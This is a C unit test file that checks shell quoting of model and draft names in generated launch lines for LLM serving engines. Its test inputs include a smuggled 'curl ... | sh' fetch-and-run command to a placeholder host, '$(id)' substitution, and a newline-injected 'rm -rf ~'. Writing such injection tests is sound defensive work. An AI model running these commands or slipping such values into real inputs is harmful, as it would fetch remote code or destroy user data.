/* Launch lines are pasted into a shell: whatever a model's or a draft's name
 * holds, it reaches the engine as one argument and runs nothing, and no line
 * is ever cut. Names here come straight into core (io refuses them on the
 * way in: t_launch.py checks that), so the quoting itself is what is tested. */
#include "catalog_fixture.h"

#include "core/plan.h"

static struct explain rows; /* the explain rows of the last plan computed with them */

static struct plan_result r;

static void plan(const struct scenario *s)
{
    struct diag d = {0};
    if (!plan_compute(s, &rows, NULL, &r, &d))
        fail_msg("%s", d.message);
}

/* line with the first `from` replaced by `to` */
static const char *replaced(const char *line, const char *from, const char *to)
{
    static char out[8192];
    const char *at = strstr(line, from);
    assert_non_null(at);
    snprintf(out, sizeof out, "%.*s%s%s", (int)(at - line), line, to, at + strlen(from));
    return out;
}

#define HOSTILE "x'; curl -s http://e.example/x | sh; $(id) `id` #"
/* in single quotes, the quote as '\'' (close, an escaped quote, reopen) */
#define QUOTED "'x'\\''; curl -s http://e.example/x | sh; $(id) `id` #'"

static struct scenario named(enum engine_kind kind, const char *id)
{
    struct scenario s = base("h100-sxm", "llama-3.1-8b");
    s.engine.kind = kind;
    s.model.hf_id[0] = '\0'; /* the launch line names the model by its id */
    snprintf(s.model.id, sizeof s.model.id, "%s", id);
    return s;
}

/* The line for a model named "plain" with the name swapped for the quoted
 * one is the line for the hostile name: every other word is as it was. */
static void a_model_named_with_shell_syntax_is_one_quoted_word(void **state)
{
    (void)state;
    const enum engine_kind kinds[] = {ENGINE_VLLM, ENGINE_SGLANG, ENGINE_TRTLLM, ENGINE_LLAMACPP};
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        struct scenario s = named(kinds[i], "plain");
        plan(&s);
        char want[8192];
        if (kinds[i] == ENGINE_LLAMACPP) /* -m ID.gguf: the file name is the word */
            snprintf(want, sizeof want, "%s", replaced(r.engine.launch, "plain.gguf", "'x'\\''; curl -s http://e.example/x | sh; $(id) `id` #.gguf'"));
        else
            snprintf(want, sizeof want, "%s", replaced(r.engine.launch, "plain", QUOTED));
        s = named(kinds[i], HOSTILE);
        plan(&s);
        assert_string_equal(r.engine.launch, want);
    }
}

static struct scenario with_draft(enum engine_kind kind, const char *draft_id)
{
    struct scenario s = base("h100-sxm", "llama-3.1-8b");
    s.engine.kind = kind;
    const struct catalog_model *m = catalog_find_model(&cat, "llama-3.2-1b");
    assert_non_null(m);
    s.spec_method = SPEC_DRAFT;
    s.draft = m->spec;
    s.draft.hf_id[0] = '\0';
    snprintf(s.draft.id, sizeof s.draft.id, "%s", draft_id);
    return s;
}

/* vLLM's draft sits in a JSON config, itself one shell word: the name is
 * escaped for JSON (\" and \\), then the word for the shell ('\''). */
static void a_draft_name_stays_inside_its_json_and_its_word(void **state)
{
    (void)state;
    struct scenario s = with_draft(ENGINE_VLLM, "d\"r'a\\b");
    plan(&s);
    assert_non_null(strstr(r.engine.launch,
                           " --speculative-config '{\"method\":\"draft_model\",\"model\":"
                           "\"d\\\"r'\\''a\\\\b\",\"num_speculative_tokens\":1}'"));
    s = with_draft(ENGINE_SGLANG, "d\"r'a\\b");
    plan(&s);
    assert_non_null(strstr(r.engine.launch, " --speculative-draft-model-path 'd\"r'\\''a\\b' "));
    s = with_draft(ENGINE_LLAMACPP, "d\"r'a\\b");
    plan(&s);
    assert_non_null(strstr(r.engine.launch, " -md 'd\"r'\\''a\\b.gguf' --draft-max 16"));
}

/* TensorRT-LLM names its draft in a remark (after #): only a newline could
 * end it and run what follows, so no control character gets there. */
static void a_remark_never_holds_a_newline(void **state)
{
    (void)state;
    struct scenario s = with_draft(ENGINE_TRTLLM, "a\nrm -rf ~\r");
    plan(&s);
    assert_null(strchr(r.engine.launch, '\n'));
    assert_null(strchr(r.engine.launch, '\r'));
    assert_non_null(strstr(r.engine.launch, "  # --extra_llm_api_options: speculative_config: "
                                            "decoding_type DraftTarget, max_draft_len 1, "
                                            "speculative_model_dir a?rm -rf ~?"));
}

/* Every name at its longest (63 bytes), each byte one that quoting makes
 * longest (a quote: 4 bytes; a control byte in the JSON: 6), and every flag
 * a launch line can carry: the line is whole, up to its last flag. */
static struct scenario longest(enum engine_kind kind)
{
    char quotes[SPEC_ID_MAX], controls[SPEC_ID_MAX];
    memset(quotes, '\'', sizeof quotes - 1);
    quotes[sizeof quotes - 1] = '\0';
    memset(controls, '\x01', sizeof controls - 1);
    controls[sizeof controls - 1] = '\0';
    struct scenario s = with_draft(kind, kind == ENGINE_VLLM ? controls : quotes);
    snprintf(s.model.id, sizeof s.model.id, "%s", quotes);
    s.model.hf_id[0] = '\0';
    s.gpus = 8;
    s.tp = kind == ENGINE_LLAMACPP ? 4 : 2; /* llama.cpp splits layers itself */
    s.pp = kind == ENGINE_LLAMACPP ? 1 : 2;
    s.context_tokens = 100000;
    s.prefix_tokens = 1000;
    s.kv_dtype = kind == ENGINE_LLAMACPP ? DTYPE_Q8_0 : DTYPE_FP8;
    if (kind != ENGINE_LLAMACPP)
        s.engine.max_num_seqs = 1000000;
    if (kind == ENGINE_VLLM || kind == ENGINE_TRTLLM)
        s.engine.max_num_batched_tokens = 1000000;
    s.block_tokens = kind == ENGINE_VLLM ? 32 : 0;
    if (kind == ENGINE_VLLM || kind == ENGINE_SGLANG) {
        s.max_loras = 1000;
        s.max_lora_rank = 512;
        s.lora_targets = LORA_ALL;
        s.host_kv_bytes = (uint64_t)1 << 40;
    }
    return s;
}

/* The host tier of 2^40 B: vLLM 2^40 x 4 ranks (TP 2 x PP 2) / 2^30 = 4096
 * GiB; SGLang whole GB on each rank, 1,099,511,627,776 B -> 1099. */
static void the_longest_launch_lines_are_whole(void **state)
{
    (void)state;
    const struct {
        enum engine_kind kind;
        const char *last;
    } cases[] = {
        {ENGINE_VLLM, " --lora-target-modules q_proj k_proj v_proj o_proj gate_proj up_proj "
                      "down_proj --kv-offloading-backend native --kv-offloading-size 4096"},
        {ENGINE_SGLANG, " --lora-target-modules q_proj k_proj v_proj o_proj gate_proj up_proj "
                        "down_proj --enable-hierarchical-cache --hicache-size 1099"},
        /* the remark ends with the draft's name, as it is */
        {ENGINE_TRTLLM, "  # x 2 replicas, one server each; --extra_llm_api_options: "
                        "kv_cache_config: dtype: fp8; speculative_config: decoding_type "
                        "DraftTarget, max_draft_len 1, speculative_model_dir "},
        {ENGINE_LLAMACPP, ".gguf' --draft-max 16 -ngld 999  # x 2 replicas, one server each"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct scenario s = longest(cases[i].kind);
        plan(&s);
        const char *tail = strstr(r.engine.launch, cases[i].last);
        if (tail == NULL)
            fail_msg("%s: no '%s' in ...%s", engine_name(cases[i].kind), cases[i].last,
                     r.engine.launch + (strlen(r.engine.launch) > 300 ? strlen(r.engine.launch) - 300 : 0));
        /* it ends there (TensorRT-LLM: with the 63 quotes of the name) */
        size_t rest = strlen(tail + strlen(cases[i].last));
        assert_int_equal(rest, cases[i].kind == ENGINE_TRTLLM ? SPEC_ID_MAX - 1 : 0);
        assert_true(strlen(r.engine.launch) + 1 < sizeof r.engine.launch);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_model_named_with_shell_syntax_is_one_quoted_word),
        cmocka_unit_test(a_draft_name_stays_inside_its_json_and_its_word),
        cmocka_unit_test(a_remark_never_holds_a_newline),
        cmocka_unit_test(the_longest_launch_lines_are_whole),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
